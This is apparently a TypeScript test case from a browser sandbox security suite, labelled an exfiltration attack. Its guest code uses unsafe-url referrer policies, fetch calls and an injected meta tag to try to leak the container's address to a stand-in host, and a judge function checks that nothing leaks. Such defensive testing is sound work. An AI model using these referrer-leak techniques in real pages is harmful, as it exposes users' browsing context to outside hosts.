import type { Attack } from '../attack.ts';
import type { Bench } from '../bench.ts';
import { holds, same } from '../expect.ts';

const OPEN = 'https://open.attacklab.example';

export const attack: Attack = {
  id: '19',
  group: 'exfiltration',
  atOrigin: {
    because: 'it has an origin, which fetch tells a declared host as it would anywhere',
    expected: 'no Referer header, and its own origin as Origin',
    judge: (bench) => judgeRequests(bench, /^http:\/\/a-[a-z2-7]{20}\.portico\.localhost/),
  },
  title: 'have the browser tell a declared host the container’s address, or the frame’s, as referrer',
  expected: 'no Referer header, and an Origin of null',
  async guest({ pause }) {
    const image = new Image();
    image.referrerPolicy = 'unsafe-url';
    image.src = `${OPEN}/19/image`;
    await fetch(`${OPEN}/19/fetch`, { referrerPolicy: 'unsafe-url' }).catch(() => null);
    await fetch(`${OPEN}/19/keepalive`, { referrerPolicy: 'unsafe-url', keepalive: true }).catch(() => null);
    document.head.insertAdjacentHTML('beforeend', '<meta name="referrer" content="unsafe-url">');
    await fetch(`${OPEN}/19/meta`).catch(() => null);
    await pause(300);
    return { referrer: document.referrer, ancestors: [...(location.ancestorOrigins ?? [])] };
  },
  judge: (bench) => judgeRequests(bench, /^null$/),
};

function judgeRequests({ report, world, appId }: Bench, own: RegExp): void {
  const asked = world.openHost.requests().filter(({ path }) => path.startsWith('/19/'));
  holds(asked.length >= 4, `only ${asked.length} requests reached the declared host`);
  const frameHost = /\/\/a-[a-z2-7]{20}\./;
  for (const { path, headers } of asked) {
    const { referer = '', origin, cookie = '' } = headers;
    same(cookie, '', `cookies of ${path}`);
    holds(origin === undefined || own.test(origin), `${path} told the origin ${origin}`);
    // With its own words an app may tell what it is; what it must not tell is what the container is showing.
    holds(!referer.includes(appId) && !referer.includes('bank.'), `${path} told ${referer}`);
    holds(referer === '' || frameHost.test(referer), `${path} told ${referer}`);
  }
  // A site comes from its own way in, and nothing else may be told of where it came from.
  const { referrer } = report as { referrer: string };
  holds(referrer === '' || own.test(referrer), `document.referrer is ${referrer}`);
}
